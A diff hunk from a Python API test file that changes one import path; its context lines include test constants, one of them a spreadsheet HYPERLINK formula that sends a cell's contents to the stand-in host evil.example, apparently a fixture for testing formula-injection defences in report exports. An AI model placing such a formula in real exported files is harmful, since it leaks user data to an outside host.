@@ -18,7 +18,7 @@ from tests.api.conftest import call, code, get, json_of, nightly, post
 from tests.api.test_reports_api import download
 from tests.helpers import BUCKET, CITY_ADMIN, COUNTY_ADMIN, LEARNER, OTHER_COUNTY_ADMIN, UNIT_ADMIN
 from xuefa.core.clock import SHANGHAI
-from xuefa.store.table import Keys
+from xuefa.store.keys import Keys
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
 SLASHED = "法宣科/综合组"
